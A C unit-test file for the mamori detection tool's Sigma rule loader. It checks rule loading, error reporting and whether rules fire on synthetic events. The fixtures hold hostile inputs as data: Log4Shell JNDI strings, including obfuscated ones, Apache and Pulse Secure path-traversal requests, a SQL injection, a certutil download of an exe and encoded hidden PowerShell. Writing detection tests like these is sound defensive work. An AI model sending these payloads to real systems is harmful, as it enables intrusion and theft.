/*
 * t_sigma_load.c - loading folders of rules: SigmaHQ-style rules with one
 * broken and one unsupported rule reported by name, and mamori's own rules
 * in rules/sigma/ (bilingual text, correlations) against realistic events.
 */
#include <stdlib.h>

#include "detection/detect_builtin.h"
#include "detection/sigma_shipped.h"
#include "tests/unit/sigma_test.h"

#define E(...) ((const char *const[]){ __VA_ARGS__, NULL })

static char data_dir[4096], rules_dir[4096];

static const struct sigma_report_item *
find_item(const struct sigma_report *r, const char *file_part)
{
	for (size_t i = 0; i < r->items.n; i++) {
		const struct sigma_report_item *it = vec_at(&r->items, i);
		if (strstr(it->file, file_part))
			return it;
	}
	return NULL;
}

static bool
fires(struct sigma_ruleset *rs, const char *id, const char *raw,
    const char *const *kv)
{
	struct event ev;
	struct st_hits hs = { 0 };
	st_event(&ev, 1000, raw, kv);
	sigma_ruleset_match(rs, &ev, st_on_hit, &hs);
	return st_has(&hs, id) && (id != NULL);
}

static void
test_sigmahq_style(void)
{
	struct sigma_ruleset *rs = NULL;
	struct sigma_report rep;
	sigma_report_init(&rep);
	int rc = sigma_ruleset_load_dir(&rs, data_dir, &rep);
	ok(rc == 0 && rs != NULL, "tests/data/sigma loads");
	is_int(rep.files, 9, "nine rule files read (README skipped)");
	is_int(rep.rules_loaded, 7, "seven rules compiled");
	is_int(rep.rules_skipped, 2, "two skipped");
	const struct sigma_report_item *b = find_item(&rep, "broken_yaml.yml");
	const struct sigma_report_item *u = find_item(&rep, "unsupported_expand.yml");
	ok(b && strstr(b->reason, "YAML") && b->line == 8 && b->title &&
	    strcmp(b->title, "Broken Rule With A YAML Error") == 0,
	    "broken rule reported by file and title, YAML error at line 8");
	ok(u && u->title && strcmp(u->title, "Rule Using The Expand Modifier") == 0 &&
	    strstr(u->reason, "unsupported modifier 'expand'") && u->line == 11,
	    "unsupported rule reported by title and reason, line 11");
	st_print_report(&rep);
	if (rs == NULL)
		goto out;
	const char *ps = "4f1c2b7e-93a0-4d5e-8b61-0e2f7c9a1d11";
	ok(fires(rs, ps, NULL, E("process.executable", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "process.command_line", "powershell.exe /w hidden /enc SQBFAFgA",
	    "process.parent.executable", "C:\\Users\\x\\Downloads\\inv.exe")),
	    "encoded hidden powershell (windash /w /enc) fires");
	ok(!fires(rs, ps, NULL, E("process.executable", "C:\\x\\powershell.exe",
	    "process.command_line", "powershell.exe -w hidden -enc SQBFAFgA",
	    "process.parent.executable", "C:\\Windows\\CCM\\CcmExec.exe")),
	    "filter_main_* excludes SCCM parent");
	ok(!fires(rs, ps, NULL, E("process.executable", "C:\\x\\powershell.exe",
	    "process.command_line", "powershell.exe -enc SQBFAFgA")),
	    "not hidden: no hit");
	ok(fires(rs, ps, NULL, E("winlog.event_data.OriginalFileName", "PowerShell.EXE",
	    "winlog.event_data.CommandLine", "p.exe -windowstyle hidden -encodedcommand AA==")),
	    "OriginalFileName branch, Winlogbeat event_data fields");
	const char *rdp = "1a6f3d9c-8b02-4e75-9c14-5d0e2a7b6f14";
	ok(fires(rs, rdp, NULL, E("winlog.event_id", "4624", "winlog.event_data.LogonType", "10",
	    "winlog.event_data.IpAddress", "203.0.113.50")), "RDP logon from a public address fires");
	ok(!fires(rs, rdp, NULL, E("winlog.event_id", "4624", "winlog.event_data.LogonType", "10",
	    "source.ip", "192.168.1.20")), "RDP from the LAN is filtered (cidr)");
	ok(!fires(rs, rdp, NULL, E("winlog.event_id", "4624", "winlog.event_data.LogonType", "10",
	    "winlog.event_data.IpAddress", "-")), "RDP without address is filtered");
	ok(fires(rs, "7e5b0c1a-2f48-4d93-a6e0-9b3c1d8f4a13", NULL, E("winlog.event_id", "4732",
	    "winlog.event_data.TargetSid", "S-1-5-32-544",
	    "winlog.event_data.SubjectUserName", "taro")), "member added to Administrators fires");
	ok(!fires(rs, "7e5b0c1a-2f48-4d93-a6e0-9b3c1d8f4a13", NULL, E("winlog.event_id", "4732",
	    "winlog.event_data.TargetSid", "S-1-5-32-544",
	    "winlog.event_data.SubjectUserName", "PC01$")), "machine account filtered");
	ok(fires(rs, "3c8e1f5a-6d2b-4a90-b7f3-0e9c4a1d5b15", NULL, E("url.original",
	    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh")), "Apache CVE-2021-41773 fires");
	ok(fires(rs, "6b2d9f0e-1c47-4e38-a5d1-7f0b3e9c2a16", NULL, E("url.original",
	    "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL--", "http.response.status_code", "200")),
	    "SQLi union select fires");
	ok(!fires(rs, "6b2d9f0e-1c47-4e38-a5d1-7f0b3e9c2a16", NULL, E("url.original",
	    "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL--", "http.response.status_code", "404")),
	    "SQLi on a 404 is filtered");
	ok(fires(rs, "8d4a0e6c-3f19-4b72-9e05-1a7c2f8b3d17",
	    "Mar  1 00:00:02 host sshd[812]: Did not receive identification string from 198.51.100.7 port 51234",
	    E("process.name", "sshd")), "sshd keyword rule on the raw line");
	ok(fires(rs, "0d9a4e3b-5c21-4f7a-b8e6-2a1f0c7d3e12", NULL, E("process.executable",
	    "C:\\Windows\\System32\\certutil.exe", "process.command_line",
	    "certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe")), "certutil download fires");
out:
	sigma_report_release(&rep);
	sigma_ruleset_free(rs);
}

static int
auth(struct sigma_ruleset *rs, struct st_hits *hs, int64_t ts, const char *ip,
    const char *user, const char *svc, bool success)
{
	struct event ev;
	st_event(&ev, ts, NULL, E("event.category", "authentication", "event.outcome",
	    success ? "success" : "failure", "source.ip", ip, "user.name", user,
	    "service.type", svc));
	return sigma_ruleset_match(rs, &ev, st_on_hit, hs);
}

static size_t
count_id(const struct st_hits *hs, const char *id)
{
	size_t n = 0;
	for (size_t i = 0; i < hs->n; i++)
		n += strcmp(hs->ids[i], id) == 0;
	return n;
}

static void
test_shipped_rules(void)
{
	struct sigma_ruleset *rs = NULL;
	struct sigma_report rep;
	sigma_report_init(&rep);
	ok(sigma_ruleset_load_dir(&rs, rules_dir, &rep) == 0 && rs, "rules/sigma loads");
	is_int(rep.rules_skipped, 0, "no shipped rule is skipped");
	st_print_report(&rep);
	is_int(rep.correlations_loaded, 3, "three correlations");
	if (rs == NULL)
		goto out;
	bool texts = true;
	for (size_t i = 0; i < sigma_ruleset_count(rs); i++) {
		const struct sigma_rule_info *in = sigma_ruleset_rule(rs, i);
		const struct alert_rule *a = &in->alert;
		bool good = in->description && a->what.ja && a->why.ja && a->action.ja &&
		    strcmp(a->what.ja, a->what.en) != 0 && strcmp(a->action.ja, a->action.en) != 0 &&
		    a->action.en[0] && in->id != in->title;
		if (!good) {
			printf("#   %s lacks id/description/mamori ja+en text\n", in->title);
			texts = false;
		}
	}
	ok(texts, "every shipped rule has id, description and ja/en what/why/action");

	/* Brute force, then the break-in. */
	struct st_hits hs = { 0 };
	for (int i = 0; i < 9; i++)
		auth(rs, &hs, 1000 + i * 1000, "203.0.113.66", "root", "ssh", false);
	is_int(hs.n, 0, "9 failures: quiet (single failures do not alert)");
	auth(rs, &hs, 11000, "203.0.113.66", "root", "ssh", false);
	is_int(count_id(&hs, "3d0e7a44-91b2-4a5e-b8f1-6c2d0a9e4b03"), 1, "10th failure: brute force");
	auth(rs, &hs, 12000, "198.51.100.3", "root", "ssh", true);
	auth(rs, &hs, 600000, "203.0.113.66", "root", "ssh", true);
	is_int(count_id(&hs, "c4a9e1d7-5b3f-4e28-9a6c-0d8f2b7e1a05"), 1,
	    "success from the attacker 10 min later: break-in");
	is_int(hs.n, 2, "successful logins alone do not alert");
	/* Spray: 5 users, 1 attempt each. */
	hs.n = 0;
	const char *users[] = { "sato", "suzuki", "takahashi", "tanaka", "ito" };
	for (int i = 0; i < 5; i++)
		auth(rs, &hs, 700000 + i * 30000, "192.0.2.200", users[i], "vpn", false);
	ok(hs.n == 1 && strcmp(hs.ids[0], "8e2f5b61-0c7d-4f3a-a9d4-1b7e6c5f2d04") == 0,
	    "five accounts from one address: spraying");
	ok(strstr(hs.group[0], "source.ip=192.0.2.200") != NULL, "spray names the source");

	const char *l4 = "5f7b2c90-3e1a-4d6f-8b2e-9c0a4d7f3e06";
	ok(fires(rs, l4, NULL, E("url.original", "/?q=${jndi:ldap://198.51.100.1:1389/a}")),
	    "Log4Shell plain");
	ok(fires(rs, l4, NULL, E("user_agent.original", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}")),
	    "Log4Shell obfuscated in the user agent");
	ok(fires(rs, l4, NULL, E("url.original", "/?x=${${lower:j}ndi:${lower:l}dap://x/a}")),
	    "Log4Shell ${lower:} obfuscation");
	ok(fires(rs, l4, NULL, E("url.original", "/?x=%24%7Bjndi:ldap://x/a%7D")), "Log4Shell URL-encoded");
	ok(!fires(rs, l4, NULL, E("url.original", "/index.php?id=${name}")), "no JNDI: quiet");
	const char *pulse = "9a3d6e18-7f2c-4b05-a1e9-4c8b0f6d2a07";
	ok(fires(rs, pulse, NULL, E("url.original",
	    "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/")),
	    "CVE-2019-11510 request fires");
	ok(!fires(rs, pulse, NULL, E("url.original", "/dana-na/auth/url_default/welcome.cgi")),
	    "normal Pulse portal page: quiet");
	ok(fires(rs, "2b8e4f03-6a1c-4d97-b5e2-7f0c9a3d1e08", NULL, E("winlog.event_id", "1102",
	    "winlog.channel", "Security")), "security log cleared");
out:
	sigma_report_release(&rep);
	sigma_ruleset_free(rs);
}

/*
 * As mamori logs loads the built-in set: the brute-force, spraying and
 * break-in correlations (all "builtin:") are not evaluated at all, so they
 * keep no windows and report nothing, while the rule no built-in covers and
 * the single-event rules the caller checks per event still fire.
 */
static void
test_builtin_wins(struct sigma_report *rep)
{
	struct sigma_ruleset *rs = NULL;
	struct sigma_stats st;
	struct st_hits hs = { 0 };
	ok(sigma_ruleset_new(&rs) == 0 && (sigma_ruleset_set_builtin_wins(rs, true), 1) &&
	    sigma_shipped_add(rs, rep) == 0 && sigma_ruleset_compile(rs, rep) == 0,
	    "the built-in set loads with the built-ins winning");
	if (rs == NULL)
		return;
	for (int i = 0; i < 12; i++)
		auth(rs, &hs, 1000 + i * 1000, "203.0.113.66", "root", "ssh", false);
	auth(rs, &hs, 600000, "203.0.113.66", "root", "ssh", true);
	const char *users[] = { "sato", "suzuki", "takahashi", "tanaka", "ito" };
	for (int i = 0; i < 5; i++)
		auth(rs, &hs, 700000 + i * 30000, "192.0.2.200", users[i], "vpn", false);
	sigma_ruleset_stats(rs, &st);
	is_int(hs.n, 0, "brute force, break-in and spraying: no Sigma hit");
	is_int(st.corr_groups, 0, "and no correlation window kept");
	ok(fires(rs, "7c1e5a92-4d3b-4f08-b6a1-2e9d0c8f5b09", NULL, E("winlog.event_id", "4698",
	    "winlog.channel", "Security")), "scheduled task created (4698) still fires");
	ok(fires(rs, "2b8e4f03-6a1c-4d97-b5e2-7f0c9a3d1e08", NULL, E("winlog.event_id", "1102",
	    "winlog.channel", "Security")), "a covered single-event rule still reaches the caller");
	sigma_ruleset_free(rs);
}

/*
 * The set built into the binary is rules/sigma whole (a file added there but
 * not to meson.build's list would be missing), and every "builtin:" prefix
 * names at least one built-in detection, so the rule really yields to one.
 */
static void
test_embedded(void)
{
	struct sigma_ruleset *dir = NULL, *emb = NULL;
	struct sigma_report rep;
	sigma_report_init(&rep);
	ok(sigma_ruleset_load_dir(&dir, rules_dir, &rep) == 0 && dir, "rules/sigma loads");
	ok(sigma_ruleset_new(&emb) == 0 && sigma_shipped_add(emb, &rep) == 0 &&
	    sigma_ruleset_compile(emb, &rep) == 0, "the built-in set loads");
	is_int(rep.rules_skipped, 0, "and skips nothing");
	if (dir == NULL || emb == NULL)
		goto out;
	is_int(sigma_ruleset_count(emb), sigma_ruleset_count(dir), "as many rules as rules/sigma");
	size_t nb, covered = 0, named = 0;
	const struct alert_rule *b = detect_builtin_rules(&nb);
	for (size_t i = 0; i < sigma_ruleset_count(emb); i++) {
		const struct sigma_rule_info *in = sigma_ruleset_rule(emb, i);
		bool same = false;
		for (size_t j = 0; j < sigma_ruleset_count(dir); j++)
			same |= strcmp(sigma_ruleset_rule(dir, j)->id, in->id) == 0;
		if (!same)
			printf("#   %s is built in but not in rules/sigma\n", in->id);
		ok(same, "built-in rule %s is in rules/sigma", in->title);
		if (!in->builtin)
			continue;
		covered++;
		for (size_t j = 0; j < nb; j++)
			if (strncmp(b[j].id, in->builtin, strlen(in->builtin)) == 0) {
				named++;
				break;
			}
	}
	ok(covered >= 6, "the rules a built-in covers say so (%zu)", covered);
	is_int(named, covered, "each builtin: prefix names a built-in detection");
	ok(fires(emb, "7c1e5a92-4d3b-4f08-b6a1-2e9d0c8f5b09", NULL, E("winlog.event_id", "4698",
	    "winlog.channel", "Security")), "scheduled task created (4698)");
	test_builtin_wins(&rep);
out:
	sigma_report_release(&rep);
	sigma_ruleset_free(dir);
	sigma_ruleset_free(emb);
}

static void
test_missing_dir(void)
{
	struct sigma_ruleset *rs = NULL;
	struct sigma_report rep;
	sigma_report_init(&rep);
	is_int(sigma_ruleset_load_dir(&rs, "/nonexistent/mamori/rules", &rep), MAMORI_E_NOTFOUND,
	    "a missing folder is an error");
	ok(rs == NULL, "and no ruleset");
	sigma_report_release(&rep);
}

int
main(void)
{
	const char *d = getenv("MAMORI_TEST_DATA");
	if (d == NULL)
		d = "tests/data";
	snprintf(data_dir, sizeof(data_dir), "%s/sigma", d);
	snprintf(rules_dir, sizeof(rules_dir), "%s/../../rules/sigma", d);
	test_sigmahq_style();
	test_shipped_rules();
	test_embedded();
	test_missing_dir();
	return done_testing();
}
